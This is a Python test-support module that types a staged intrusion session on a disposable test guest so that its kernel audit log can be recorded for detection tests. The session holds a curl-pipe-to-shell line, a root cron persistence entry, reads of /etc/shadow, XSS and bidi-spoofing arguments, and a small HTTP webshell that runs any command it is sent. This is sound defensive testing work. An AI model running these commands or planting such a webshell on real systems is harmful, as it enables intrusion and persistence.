"""A real login on the test guest, recorded by its kernel: the material of the sessions tests.

``record_sessions(guest, work)`` loads a few audit rules into the guest's kernel, logs in
over SSH as ``mallory`` (a key, a terminal: sshd, PAM and pam_loginuid as on any server) and
types a session: ``sudo``, ``sudo su -`` and a nested shell, a read of ``/etc/shadow`` that
the kernel refuses three times, a write into ``/etc/cron.d/`` through ``sudo tee``, a
download piped into a shell, a command line written to fool a screen.  auditd's log is
rotated in the middle of it.  A web-server-like service (a systemd unit running as
``www-data``, no login session) then runs shell commands that two requests ask for.  The
guest's rules and files are put back, and auditd's two files come back to the host.

Run it once per test session: an SSH login and every command cost real time under QEMU's
emulation.
"""

from __future__ import annotations

import io
import re
import subprocess
import tarfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

from tests.support.guest import SSH_OPTIONS, Guest

USER, UID = "mallory", 1501
SERVICE_UNIT = "wt-webshell"
SERVICE_PORT = 8080
CRON_FILE = "/etc/cron.d/wt-update"
# The guest's rules for these sessions, first in its lists (-A) so that their keys win over
# those of rules the roles may have loaded.
RULES = (
    "always,exit -F arch=b64 -S execve -F 'auid>=1500' -F 'auid<=1599' -k wt-session",
    "always,exit -F arch=b64 -S execve -F auid=4294967295 -F uid=33 -k wt-service",
    "always,exit -F arch=b64 -S openat -F exit=-EACCES -F 'auid>=1500' -F 'auid<=1599' -k wt-denied",
    "always,exit -F arch=b64 -F dir=/etc/cron.d -F perm=wa -F 'auid>=1500' -F 'auid<=1599' -k wt-cron",
)
# A command line written to fool a screen: markup, a script, a terminal escape, a bidi
# override (typed without single quotes, which quote them).
HOSTILE_ARGUMENTS = ('<script>document.title="pwned"</script>',
                     '<img src=x id=injected onerror="document.title=this.id">',
                     "\x1b[31mred", "invoice\u202egpj.exe")

PREPARE = r"""
set -e
id {user} >/dev/null 2>&1 || useradd -M -u {uid} -d /home/{user} -s /bin/bash {user}
install -d -o {user} -g {user} -m 0700 /home/{user} /home/{user}/.ssh
install -o {user} -g {user} -m 0600 /root/.ssh/authorized_keys /home/{user}/.ssh/
echo '{user} ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/wt-sessions
chmod 0440 /etc/sudoers.d/wt-sessions
# sudo resolves the host's own name (the guest has no resolver to wait for)
grep -q ' guest$' /etc/hosts || echo '127.0.1.1 guest' >> /etc/hosts
# a watch needs its directory: the guest has no cron
[ -d /etc/cron.d ] || {{ mkdir /etc/cron.d && touch /run/wt-sessions-cron.d; }}
rm -f {cron}
{rules}
""".format(user=USER, uid=UID, cron=CRON_FILE,
           rules="\n".join("auditctl -A " + rule for rule in RULES))

WEBSHELL = """import http.server, subprocess, urllib.parse

class Shell(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        command = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)["cmd"][0]
        output = subprocess.run(["sh", "-c", command], capture_output=True).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(output)

http.server.HTTPServer(("127.0.0.1", %d), Shell).serve_forever()
""" % SERVICE_PORT

# What the service is asked to run, in its requests' order.
SERVICE_COMMANDS = ("id; uname -a", "cat /etc/hostname")

CLEANUP = r"""
systemctl stop {unit} 2>/dev/null || true
sed -i '/^127.0.1.1 guest$/d' /etc/hosts
rm -f /etc/sudoers.d/wt-sessions {cron} /usr/local/lib/wt-webshell.py
[ ! -e /run/wt-sessions-cron.d ] || rmdir /etc/cron.d && rm -f /run/wt-sessions-cron.d
{rules}
""".format(unit=SERVICE_UNIT, cron=CRON_FILE,
           rules="\n".join("auditctl -d " + rule + " || true" for rule in RULES))

# The session, typed a line at a time, each once the shell prompts for it: sudo relays what
# is typed ahead to the terminal it opens, where it is lost when sudo ends.
PARTS = (
    ["id",
     "sudo cat /etc/shadow > /dev/null",
     "for i in 1 2 3; do cat /etc/shadow; done 2>/dev/null",
     "echo '*/5 * * * * root /var/tmp/.update' | sudo tee %s > /dev/null" % CRON_FILE,
     "echo \"$SSH_CONNECTION\" > ~/connection"],
    ["sudo su -",
     "bash",
     "uname -a",
     "exit",
     "exit",
     "curl -fsS http://127.0.0.1:9/install.sh | sh",
     "/bin/echo '%s' '%s' $'\\e[31mred' $'invoice\\u202egpj.exe'" % HOSTILE_ARGUMENTS[:2]],
)
_PROMPT = rb"(?:%s|root)@guest:[^\r\n]*[$#] $" % USER.encode()


@dataclass
class RecordedSessions:
    """What the guest recorded: auditd's log as two files (``logs``: the directory), the
    address sshd saw the login come from, and when it began by the guest's clock."""

    logs: Path
    client_address: str
    started: float


class _Typist:
    """A login over SSH with a terminal, fed lines as a person types them."""

    def __init__(self, guest: Guest):
        self.process = subprocess.Popen(  # pylint: disable=consider-using-with
            ["ssh", *SSH_OPTIONS, "-tt", "-i", str(guest.key), "-p", str(guest.ssh_port),
             "%s@127.0.0.1" % USER],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        self.output = b""
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self):
        while True:
            chunk = self.process.stdout.read1(65536)
            if not chunk:
                return
            self.output += chunk

    def type(self, line: str) -> None:
        self.process.stdin.write(line.encode("utf-8") + b"\n")
        self.process.stdin.flush()

    def wait_for(self, pattern: bytes, after: int = 0, timeout: float = 180) -> int:
        """Wait until the terminal shows ``pattern`` (a regex) after offset ``after``; the
        offset of its end."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            found = re.search(pattern, self.output[after:])
            if found:
                return after + found.end()
            if self.process.poll() is not None and not self._reader.is_alive():
                break
            time.sleep(0.05)
        raise AssertionError("the terminal never showed %r:\n%s"
                             % (pattern, self.output[-3000:].decode(errors="replace")))

    def prompted(self, after: int = 0) -> int:
        """Wait for the shell's prompt after ``after``; the offset of its end."""
        return self.wait_for(_PROMPT, after)

    def lines(self, lines, after: int) -> int:
        """Type each of ``lines`` once the shell prompts for it; the offset of the last
        prompt."""
        for line in lines:
            self.type(line)
            after = self.prompted(len(self.output))
        return after

    def finish(self, timeout: float = 120) -> None:
        self.type("exit")
        try:
            self.process.wait(timeout)
        finally:
            self._reader.join(10)


ROTATE = r"""
before=$(stat -c %i /var/log/audit/audit.log)
kill -USR1 $(pidof auditd)
for i in $(seq 300); do [ "$(stat -c %i /var/log/audit/audit.log)" = "$before" ] || exit 0; sleep 0.1; done
echo "auditd did not rotate its log" >&2; exit 1
"""

SERVICE = r"""
set -e
for i in $(seq 300); do ss -Hltn 'sport = :{port}' | grep -q . && break; sleep 0.1; done
{requests}
# sshd closed the login, and auditd has written all the kernel handed it
for i in $(seq 300); do grep -q 'USER_END.*acct="{user}"' /var/log/audit/audit.log && break; sleep 0.1; done
auditctl -m 'whotouched sessions recorded'
for i in $(seq 300); do grep -q 'whotouched sessions recorded' /var/log/audit/audit.log && break; sleep 0.1; done
cat /home/{user}/connection
""".format(port=SERVICE_PORT, user=USER, requests="\n".join(
    "curl -fsS -o /dev/null -G --data-urlencode 'cmd=%s' http://127.0.0.1:%d/" % (command, SERVICE_PORT)
    for command in SERVICE_COMMANDS))


def _fetch_logs(guest: Guest, work: Path) -> None:
    """auditd's log and its last rotation, byte for byte."""
    done = subprocess.run(["ssh", *SSH_OPTIONS, "-i", str(guest.key), "-p", str(guest.ssh_port),
                           "root@127.0.0.1", "tar -C /var/log/audit -cf - audit.log.1 audit.log"],
                          capture_output=True, timeout=300, check=False)
    assert done.returncode == 0, "cannot read auditd's log on the guest: %s" % done.stderr[-500:]
    with tarfile.open(fileobj=io.BytesIO(done.stdout)) as archive:
        for name in ("audit.log.1", "audit.log"):
            (work / name).write_bytes(archive.extractfile(name).read())


def record_sessions(guest: Guest, work: Path) -> RecordedSessions:
    """Type the sessions on ``guest`` (see the module's description); auditd's files of
    them in ``work``."""
    try:
        # the service starts while the session is typed: Python is slow under emulation
        started = float(guest.check(
            PREPARE + "\ncat > /usr/local/lib/wt-webshell.py <<'PY'\n" + WEBSHELL + "PY\n"
            "date +%%s.%%N\nsystemd-run --quiet --unit=%s --uid=www-data --gid=www-data "
            "python3 /usr/local/lib/wt-webshell.py\n" % SERVICE_UNIT))
        typist = _Typist(guest)
        try:
            offset = typist.lines(PARTS[0], typist.prompted())
            # auditd's log rotated between two commands of the session (USR1, as logrotate
            # or auditd's own max_log_file_action do it)
            guest.check(ROTATE)
            typist.lines(PARTS[1], offset)
        finally:
            typist.finish()
        client = guest.check(SERVICE).split()[0]
    finally:
        guest.ssh(CLEANUP)
    work.mkdir(parents=True, exist_ok=True)
    _fetch_logs(guest, work)
    return RecordedSessions(work, client, started)
